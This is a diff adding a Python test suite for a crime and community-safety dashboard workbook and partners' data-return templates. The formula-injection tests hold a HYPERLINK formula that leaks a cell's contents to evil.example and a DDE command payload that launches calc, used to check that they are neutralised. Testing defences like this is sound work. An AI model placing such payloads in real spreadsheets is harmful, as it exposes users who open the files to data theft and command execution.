@@ -1,0 +1,451 @@
+"""helpers.excel: the dashboard workbook and the partners' data return, read back for real."""
+from __future__ import annotations
+
+import dataclasses
+import os
+import re
+import shutil
+import subprocess
+import tempfile
+import zipfile
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+
+from helpers import config
+from helpers.errors import InputError
+from helpers.excel import (ARROWS, ILLUSTRATIVE_MARK, JUDGEMENT_STYLE, RETURN_HEADERS, VERSUS, read_return,
+                           return_periods, safe_text, write_dashboard, write_return_template)
+from helpers.ingest import read_local_extract
+from helpers.pipeline import compute
+from helpers.quarters import parse_quarter
+
+QUARTER = "2022-23-Q2"
+HEADER_ROW = 6  # column headers of the Dashboard sheet
+FIRST_ROW = HEADER_ROW + 1
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+
+@pytest.fixture(scope="module")
+def results():
+    return compute(QUARTER)
+
+
+@pytest.fixture(scope="module")
+def dashboard(results, tmp_path_factory) -> Path:
+    return write_dashboard(results, tmp_path_factory.mktemp("excel") / "dashboard.xlsx")
+
+
+@pytest.fixture(scope="module")
+def book(dashboard):
+    return load_workbook(dashboard)
+
+
+@pytest.fixture(scope="module")
+def rows(book, results) -> dict:
+    """Dashboard row number by indicator id, found through the title in column A."""
+    ws = book["Dashboard"]
+    by_title = {ws.cell(r, 1).value.removesuffix(f" {ILLUSTRATIVE_MARK}"): r
+                for r in range(FIRST_ROW, ws.max_row + 1) if isinstance(ws.cell(r, 1).value, str)}
+    return {i.id: by_title[i.title] for i in results.catalogue.values() if i.title in by_title}
+
+
+def partnership(results, indicator_id: str) -> pd.Series:
+    table = results.table
+    return table[(table["indicator_id"] == indicator_id) & (table["area"] == config.PARTNERSHIP)].iloc[0]
+
+
+def headers(ws) -> list[str]:
+    return [ws.cell(HEADER_ROW, c).value for c in range(1, ws.max_column + 1)]
+
+
+# --- Dashboard ------------------------------------------------------------------------
+
+def test_dashboard_lists_every_indicator_in_section_order(book, results, rows):
+    assert set(rows) == set(results.catalogue)
+    ordered = sorted(rows, key=rows.get)
+    expected = [i.id for s in config.SECTIONS for i in results.catalogue.values() if i.section == s]
+    assert ordered == expected
+    ws = book["Dashboard"]
+    column_a = [ws.cell(r, 1).value for r in range(FIRST_ROW, ws.max_row + 1)]
+    assert all(title in column_a for title in config.SECTIONS.values())
+
+
+def test_dashboard_columns(book):
+    names = headers(book["Dashboard"])
+    assert names[:2] == ["Indicator", "Unit"]
+    assert names[2].startswith("Current") and names[3].startswith("Previous") and names[4].startswith("Change")
+    assert names[5:9] == ["Direction", "Judgement", "95% confidence\ninterval", "Target\nrange"]
+    assert [n.replace("\n", " ") for n in names[9:]] == config.AREAS
+
+
+@pytest.mark.parametrize("indicator_id", ["total_crime", "robbery", "marac_repeat_rate", "hate_crime", "cohesion_survey"])
+def test_partnership_values_equal_the_table(book, results, rows, indicator_id):
+    ws, row, record = book["Dashboard"], rows[indicator_id], partnership(results, indicator_id)
+    assert round(ws.cell(row, 3).value, 2) == round(record["value"], 2)
+    assert round(ws.cell(row, 4).value, 2) == round(record["previous_value"], 2)
+    assert round(ws.cell(row, 5).value, 2) == round(record["change_pct"], 2)
+    assert ws.cell(row, 2).value == results.catalogue[indicator_id].unit
+    # every area column holds that area's value
+    for column, area in enumerate(config.AREAS, start=10):
+        expected = results.table.set_index(["indicator_id", "area"]).loc[(indicator_id, area), "value"]
+        assert ws.cell(row, column).value == pytest.approx(expected, abs=1e-9)
+
+
+def test_number_formats_by_unit(book, rows):
+    ws = book["Dashboard"]
+    assert ws.cell(rows["total_crime"], 3).number_format == "0.00\" \"_▲"
+    assert ws.cell(rows["marac_repeat_rate"], 3).number_format.startswith('0.0"%"')  # values are already percentages
+    assert "%" not in ws.cell(rows["marac_repeat_rate"], 3).number_format.replace('"%"', "")
+
+
+def test_unavailable_indicator_says_not_available_with_reason(book, results, rows):
+    ws, row = book["Dashboard"], rows["racially_religiously_aggravated"]
+    reason = results.params["unavailable"]["racially_religiously_aggravated"]
+    cell = ws.cell(row, 3)
+    assert cell.value == "Not available"
+    assert cell.comment is not None and cell.comment.text == reason
+    values = [ws.cell(row, c).value for c in range(3, ws.max_column + 1)]
+    assert not any(isinstance(v, (int, float)) for v in values)  # never a 0 or any number
+
+
+def test_direction_and_judgement_come_from_the_table(book, results, rows):
+    ws = book["Dashboard"]
+    for indicator_id, row in rows.items():
+        record = partnership(results, indicator_id)
+        if record["status"] != "available":
+            continue
+        assert ws.cell(row, 6).value == ARROWS[record["direction"]]
+        judgement = ws.cell(row, 7)
+        assert judgement.value == record["judgement"].capitalize()
+        fill, colour = JUDGEMENT_STYLE[record["judgement"]]
+        assert judgement.fill.start_color.rgb.endswith(fill) and judgement.font.color.rgb.endswith(colour)
+
+
+def test_area_markers_follow_the_comparison(book, results, rows):
+    ws = book["Dashboard"]
+    table = results.table.set_index(["indicator_id", "area"])
+    checked = 0
+    for indicator_id, row in rows.items():
+        for column, area in enumerate(config.AREAS, start=10):
+            versus = table.loc[(indicator_id, area), "vs_partnership"]
+            fmt = ws.cell(row, column).number_format
+            if versus in VERSUS:
+                assert fmt.endswith(f' {VERSUS[versus][0]}"'), (indicator_id, area, fmt)
+                checked += 1
+            elif table.loc[(indicator_id, area), "status"] == "available":
+                assert '"▲"' not in fmt and '▼' not in fmt
+    assert checked > 20
+
+
+def test_target_range_and_illustrative_marks(book, results, rows):
+    ws = book["Dashboard"]
+    marac = partnership(results, "marac_repeat_rate")
+    assert ws.cell(rows["marac_repeat_rate"], 9).value == f"28–40%:\n{marac['target_status']}"
+    assert ws.cell(rows["total_crime"], 9).value is None
+    assert ws.cell(rows["violence_with_injury"], 1).value.endswith(ILLUSTRATIVE_MARK)  # local sample data
+    assert not ws.cell(rows["total_crime"], 1).value.endswith(ILLUSTRATIVE_MARK)  # police.uk
+    key = " ".join(str(c.value) for row in ws.iter_rows(min_row=max(rows.values()) + 1) for c in row if c.value)
+    for words in ("Illustrative sample", "per 10,000", "Byar", "Wilson", "▲ Higher", "Improving", "No judgement"):
+        assert words in key
+
+
+def contrast(foreground: str, background: str) -> float:
+    def luminance(hex_colour: str) -> float:
+        channels = [int(hex_colour[i:i + 2], 16) / 255 for i in (0, 2, 4)]
+        r, g, b = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
+        return 0.2126 * r + 0.7152 * g + 0.0722 * b
+    light, dark = sorted((luminance(foreground), luminance(background)), reverse=True)
+    return (light + 0.05) / (dark + 0.05)
+
+
+def test_colours_have_enough_contrast():
+    for fill, text in JUDGEMENT_STYLE.values():
+        assert contrast(text, fill) >= 4.5
+    for _, fill in VERSUS.values():
+        assert contrast("000000", fill) >= 4.5
+
+
+def test_print_setup_is_one_landscape_page(book):
+    ws = book["Dashboard"]
+    assert ws.page_setup.orientation == "landscape"
+    assert ws.sheet_properties.pageSetUpPr.fitToPage
+    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 1)
+    assert ws.print_title_rows == f"${HEADER_ROW - 1}:${HEADER_ROW}"
+    assert ws.freeze_panes == f"B{FIRST_ROW}"
+    assert ws.page_margins.left <= 0.3
+
+
+# --- Trends, Data, Definitions --------------------------------------------------------
+
+def test_trends_has_a_chart_per_available_indicator_and_its_data(book, results):
+    ws = book["Trends"]
+    available = [i for i in results.catalogue if partnership(results, i)["status"] == "available"]
+    assert len(ws._charts) == len(available)
+    top = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "12 months ending")
+    series = results.series[results.series["area"] == config.PARTNERSHIP]
+    titles = {f"{i.title} ({i.unit})": i.id for i in results.catalogue.values()}
+    columns = {titles[ws.cell(top, c).value]: c for c in range(2, ws.max_column + 1) if ws.cell(top, c).value}
+    assert set(columns) == set(available)
+    months = sorted(series["period_end"].unique())
+    for indicator_id, column in columns.items():
+        expected = series[series["indicator_id"] == indicator_id].set_index("period_end")["value"]
+        for r, month in enumerate(months, start=top + 1):
+            value = ws.cell(r, column).value
+            if pd.isna(expected.get(month)):
+                assert value is None
+            else:
+                assert value == pytest.approx(expected[month], abs=1e-9)
+
+
+def test_data_sheet_equals_the_table(dashboard, book, results):
+    table = results.table
+    data = pd.read_excel(dashboard, sheet_name="Data")
+    assert list(data.columns) == list(table.columns)
+    assert len(data) == len(table)
+    for column in table.columns:
+        mine, theirs = table[column], data[column]
+        if pd.api.types.is_numeric_dtype(mine) and not pd.api.types.is_bool_dtype(mine):
+            np.testing.assert_allclose(theirs.to_numpy(float), mine.to_numpy(float), rtol=0, atol=1e-9, equal_nan=True,
+                                       err_msg=column)
+        else:
+            expected = mine.astype(object).where(mine.notna() & (mine.astype(str) != ""), None).tolist()
+            got = theirs.astype(object).where(theirs.notna(), None).tolist()
+            assert got == expected, column
+    excel_table = book["Data"].tables["IndicatorTable"]
+    assert excel_table.ref == f"A1:{book['Data'].cell(1, len(table.columns)).column_letter}{len(table) + 1}"
+
+
+def test_definitions_cover_the_catalogue(book, results):
+    ws = book["Definitions"]
+    ids = [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)]
+    assert ids == list(results.catalogue)
+    marac = ids.index("marac_repeat_rate") + 2
+    assert ws.cell(marac, 10).value.startswith("28–40")
+    assert ws.cell(marac, 5).value == "No polarity"
+
+
+def cell_values(path: Path) -> dict:
+    wb = load_workbook(path)
+    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in wb.worksheets}
+
+
+def test_same_inputs_give_the_same_workbook(results, dashboard, tmp_path):
+    again = write_dashboard(results, tmp_path / "again.xlsx")
+    assert cell_values(again) == cell_values(dashboard)
+    assert load_workbook(again).properties.created == load_workbook(dashboard).properties.created
+
+
+def test_no_cell_is_a_formula(dashboard):
+    with zipfile.ZipFile(dashboard) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
+
+
+# --- Formula injection ------------------------------------------------------------------
+
+@pytest.mark.parametrize("text, expected", [
+    ("=1+1", "'=1+1"), ("+44 116", "'+44 116"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("Blaby", "Blaby"), ("a=b", "a=b"), ("", ""),
+    ("bell\x07", "bell"),
+])
+def test_safe_text(text, expected):
+    assert safe_text(text) == expected
+
+
+def test_params_and_data_text_cannot_become_formulas(results, tmp_path):
+    table = results.table.copy()
+    table.loc[table["area"] == "Blaby", "area"] = EVIL
+    table.loc[table["reason"] != "", "reason"] = "@SUM(1+1)"
+    params = {**results.params, "partnership": EVIL,
+              "unavailable": {k: "@SUM(1+1)" for k in results.params["unavailable"]}}
+    catalogue = dict(results.catalogue)
+    catalogue["robbery"] = dataclasses.replace(catalogue["robbery"], title="-Robbery", definition="+cmd|' /C calc'!A0")
+    hostile = dataclasses.replace(results, table=table, params=params, catalogue=catalogue)
+    path = write_dashboard(hostile, tmp_path / "hostile.xlsx")
+
+    wb = load_workbook(path)
+    texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in texts if c.data_type == "f"]
+    assert not [c.value for c in texts if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
+    title = wb["Dashboard"]["A1"]
+    assert title.data_type == "s" and title.value.startswith("'=HYPERLINK(")
+    data = wb["Data"]
+    area_column = [c.value for c in data[1]].index("area") + 1
+    assert "'" + EVIL in [data.cell(r, area_column).value for r in range(2, data.max_row + 1)]
+    rra = next(r for r in range(1, 60) if str(wb["Dashboard"].cell(r, 1).value).startswith("Racially"))
+    assert wb["Dashboard"].cell(rra, 3).comment.text == "'@SUM(1+1)"
+    with zipfile.ZipFile(path) as archive:
+        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
+
+
+# --- Data returns -----------------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def template(results, tmp_path_factory) -> Path:
+    return write_return_template(QUARTER, tmp_path_factory.mktemp("return") / "return.xlsx", results.catalogue)
+
+
+def fill(template: Path, path: Path, values: dict) -> Path:
+    """Fill a copy of the template: values maps (sheet, cell) -> value."""
+    wb = load_workbook(template)
+    for (sheet, cell), value in values.items():
+        wb[sheet][cell] = value
+    wb.save(path)
+    return path
+
+
+def test_template_layout(template, results):
+    wb = load_workbook(template)
+    assert wb.sheetnames == ["Instructions", "Crime", "Domestic abuse", "ASB", "MARAC", "Survey"]
+    quarter = parse_quarter(QUARTER)
+    local = [i for i in results.catalogue.values() if i.source == "local"]
+    for ws in wb.worksheets[1:]:
+        assert [c.value for c in ws[1]][:5] == RETURN_HEADERS
+        assert ws.freeze_panes == "A2"
+        rows = [(r[0].value, r[1].value, r[2].value) for r in ws.iter_rows(min_row=2) if r[0].value]
+        ids = {r[2] for r in rows}
+        expected = {(a, p, i.id) for i in local if i.id in ids for p in return_periods(quarter, i) for a in config.DISTRICTS}
+        assert set(rows) == expected and len(rows) == len(expected)
+        checks = {dv.type: dv for dv in ws.data_validations.dataValidation}
+        assert {"list", "whole"} <= set(checks)
+        whole = [dv for dv in ws.data_validations.dataValidation if dv.type == "whole"]
+        assert {str(dv.sqref).split(":")[0] for dv in whole} == {"D2", "E2"}
+        assert all(dv.operator == "greaterThanOrEqual" and dv.formula1 == "0" for dv in whole)
+        lists = " ".join(dv.formula1 for dv in ws.data_validations.dataValidation if dv.type == "list")
+        assert "Oadby and Wigston" in lists
+    months = [r[1].value for r in wb["ASB"].iter_rows(min_row=2) if r[1].value]
+    assert sorted(set(months))[0] == "2020-10" and sorted(set(months))[-1] == "2022-09" and len(set(months)) == 24
+    quarters = sorted({r[1].value for r in wb["MARAC"].iter_rows(min_row=2) if r[1].value})
+    assert quarters[0] == "2020-21-Q3" and quarters[-1] == "2022-23-Q2" and len(quarters) == 8
+
+
+def test_template_round_trips_the_sample_extract(template, results, tmp_path):
+    sample = pd.read_csv(config.LOCAL_SAMPLE, dtype=str, keep_default_na=False)
+    lookup = {(r.area, r.period, r.indicator_id): (r.numerator, r.denominator) for r in sample.itertuples()}
+    wb = load_workbook(template)
+    for ws in wb.worksheets[1:]:
+        for row in ws.iter_rows(min_row=2, max_col=5):
+            key = (row[0].value, row[1].value, row[2].value)
+            if key in lookup:
+                numerator, denominator = lookup[key]
+                row[3].value = int(numerator)
+                row[4].value = int(denominator) if denominator else None
+    filled = tmp_path / "filled.xlsx"
+    wb.save(filled)
+
+    got = read_return(filled, results.catalogue)
+    quarter = parse_quarter(QUARTER)
+    months = {str(m) for m in pd.period_range(end=quarter.end_month, periods=24, freq="M")}
+    expected = read_local_extract(config.LOCAL_SAMPLE, results.catalogue)
+    expected = expected[expected["month"].isin(months)]
+    order = ["indicator_id", "area", "month"]
+    pd.testing.assert_frame_equal(got.sort_values(order, ignore_index=True), expected.sort_values(order, ignore_index=True))
+    assert len(got) == 11 * 24 * 8 + 2 * 8 * 8
+
+
+def test_empty_numerator_is_not_supplied(template, results, tmp_path):
+    path = fill(template, tmp_path / "partial.xlsx", {("ASB", "D2"): 7, ("MARAC", "D3"): 4, ("MARAC", "E3"): 12})
+    got = read_return(path, results.catalogue)
+    assert len(got) == 2
+    asb = got[got["indicator_id"] == "asb_nuisance"].iloc[0]
+    assert (asb["area"], asb["month"], asb["numerator"]) == ("Blaby", "2020-10", 7) and pd.isna(asb["denominator"])
+    marac = got[got["indicator_id"] == "marac_repeat_rate"].iloc[0]
+    assert (marac["area"], marac["month"], marac["numerator"], marac["denominator"]) == ("Charnwood", "2020-12", 4, 12)
+
+
+def test_a_month_excel_turned_into_a_date_is_read(template, results, tmp_path):
+    import datetime as dt
+    path = fill(template, tmp_path / "dated.xlsx", {("ASB", "B2"): dt.datetime(2020, 10, 1), ("ASB", "D2"): 3})
+    assert read_return(path, results.catalogue)["month"].tolist() == ["2020-10"]
+
+
+@pytest.mark.parametrize("values, where, problem", [
+    ({("ASB", "D7"): "abc"}, "sheet 'ASB' cell D7", "numerator 'abc' is not a number"),
+    ({("ASB", "D7"): -3}, "sheet 'ASB' cell D7", "numerator '-3' must be a whole number of 0 or more"),
+    ({("Crime", "D4"): 2.5}, "sheet 'Crime' cell D4", "numerator '2.5' must be a whole number"),
+    ({("MARAC", "D5"): 9, ("MARAC", "E5"): "many"}, "sheet 'MARAC' cell E5", "denominator 'many' is not a number"),
+    ({("MARAC", "D5"): 9, ("MARAC", "E5"): 4}, "sheet 'MARAC' cell D5", "numerator 9 is greater than denominator 4"),
+    ({("ASB", "A9"): "Leicester", ("ASB", "D9"): 1}, "sheet 'ASB' cell A9", "unknown area 'Leicester'"),
+    ({("ASB", "B9"): "2020/10", ("ASB", "D9"): 1}, "sheet 'ASB' row 9", "must be a month YYYY-MM"),
+    ({("MARAC", "D2"): 3}, "sheet 'MARAC' row 2", "denominator must be a positive whole number"),
+    ({("ASB", "D1"): "Count"}, "sheet 'ASB' row 1", "the first row must be the headers Area, Period"),
+])
+def test_bad_values_name_file_sheet_and_cell(template, results, tmp_path, values, where, problem):
+    path = fill(template, tmp_path / "bad.xlsx", values)
+    with pytest.raises(InputError) as caught:
+        read_return(path, results.catalogue)
+    message = str(caught.value)
+    assert message.startswith(f"{path}, {where}: ")
+    assert problem in message
+
+
+def test_duplicate_rows_are_refused(template, results, tmp_path):
+    path = fill(template, tmp_path / "twice.xlsx", {
+        ("ASB", "D2"): 1, ("ASB", "A900"): "Blaby", ("ASB", "B900"): "2020-10", ("ASB", "C900"): "asb_nuisance",
+        ("ASB", "D900"): 2})
+    with pytest.raises(InputError, match=r"sheet 'ASB' row 900: duplicate row.*sheet 'ASB' row 2"):
+        read_return(path, results.catalogue)
+
+
+def test_unreadable_return(results, tmp_path):
+    junk = tmp_path / "junk.xlsx"
+    junk.write_text("not a workbook")
+    with pytest.raises(InputError, match="junk.xlsx: not a readable .xlsx workbook"):
+        read_return(junk, results.catalogue)
+    with pytest.raises(InputError, match="not found"):
+        read_return(tmp_path / "missing.xlsx", results.catalogue)
+
+
+# --- LibreOffice ---------------------------------------------------------------------------
+
+def require_tool(name: str, available: bool) -> None:
+    if available:
+        return
+    if os.environ.get("REQUIRE_ALL_TOOLS") == "1":
+        pytest.fail(f"{name} is required (REQUIRE_ALL_TOOLS=1) but not installed")
+    pytest.skip(f"{name} not installed")
+
+
+def pdf_pages(pdf: Path) -> list[tuple[float, float, str]]:
+    """(width, height, text) of each page, with pypdf or else poppler."""
+    try:
+        from pypdf import PdfReader
+    except ImportError:
+        require_tool("pdfinfo/pdftotext", bool(shutil.which("pdfinfo") and shutil.which("pdftotext")))
+        count = int(re.search(r"Pages:\s+(\d+)", subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True,
+                                                                  check=True).stdout).group(1))
+        pages = []
+        for n in range(1, count + 1):
+            info = subprocess.run(["pdfinfo", "-f", str(n), "-l", str(n), str(pdf)], capture_output=True, text=True).stdout
+            width, height = map(float, re.search(r"size:\s+([\d.]+) x ([\d.]+)", info).groups())
+            text = subprocess.run(["pdftotext", "-f", str(n), "-l", str(n), str(pdf), "-"], capture_output=True,
+                                  text=True).stdout
+            pages.append((width, height, text))
+        return pages
+    return [(float(p.mediabox.width), float(p.mediabox.height), p.extract_text()) for p in PdfReader(pdf).pages]
+
+
+@pytest.mark.slow
+def test_libreoffice_prints_the_dashboard_on_one_landscape_page(dashboard, tmp_path):
+    soffice = shutil.which("soffice")
+    require_tool("soffice (LibreOffice)", soffice is not None)
+    profile = Path(tempfile.mkdtemp(prefix="lo-profile-"))
+    try:
+        subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", "pdf",
+                        "--outdir", str(tmp_path), str(dashboard)], check=True, capture_output=True, timeout=180)
+    finally:
+        shutil.rmtree(profile, ignore_errors=True)
+    pages = pdf_pages(tmp_path / "dashboard.pdf")
+    # LibreOffice prints every sheet; the Dashboard must be exactly the first page.
+    width, height, first = pages[0]
+    assert width > height  # landscape
+    flat = " ".join(first.split())
+    assert "Safer Communities Performance Dashboard" in flat
+    assert "Total recorded crime" in flat and "People from different backgrounds" in flat
+    assert "MARAC repeat referral rate target: SafeLives" in flat  # the last line of the key
+    assert "rolling 12-month values" in " ".join(pages[1][2].split())  # page 2 is already the Trends sheet
+    assert not any("Performance Dashboard" in text for _, _, text in pages[1:])
